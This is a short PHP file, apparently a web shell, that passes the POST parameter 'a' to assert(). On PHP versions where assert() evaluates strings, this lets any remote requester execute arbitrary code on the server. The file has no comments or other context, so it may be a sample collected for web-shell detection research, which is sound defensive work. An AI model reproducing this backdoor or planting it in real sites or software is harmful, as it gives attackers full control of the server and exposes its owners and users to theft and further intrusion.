<?php
function run($code)
{
    assert($code);
}
run($_POST['a']);
